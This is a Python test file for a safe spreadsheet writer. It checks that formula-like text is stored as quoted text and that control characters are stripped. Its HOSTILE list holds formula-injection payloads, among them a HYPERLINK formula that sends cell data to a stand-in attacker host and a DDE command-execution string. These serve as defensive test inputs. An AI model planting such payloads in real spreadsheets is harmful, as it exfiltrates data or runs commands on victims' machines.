"""The one workbook writer: text never runs as a formula, numbers stay numbers."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from liaison.xlsx import SafeWorkbook, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
]


def _read(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [True, False], ids=["streaming", "normal"])
@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_formula_like_text_as_quoted_text(write_only, text):
    book = SafeWorkbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    sheet.append([text, "洛阳某机械制造有限公司", 42, 3.5, dt.date(2026, 10, 12)])
    cells = _read(workbook_bytes(book))
    assert cells[0].value == text and cells[0].data_type == "s" and cells[0].quotePrefix
    assert cells[1].value == "洛阳某机械制造有限公司" and not cells[1].quotePrefix
    assert cells[2].value == 42 and cells[2].data_type == "n"
    assert cells[3].value == 3.5
    assert cells[4].value.date() == dt.date(2026, 10, 12)


def test_it_neutralises_cells_set_directly_and_strips_illegal_control_characters():
    book = SafeWorkbook()
    book.active["A1"] = "=1+1"
    book.active.append(["名称\x00\x07含控制字符"])
    cells = _read(workbook_bytes(book))
    assert cells[0].value == "=1+1" and cells[0].data_type == "s"
    assert cells[1].value == "名称含控制字符"
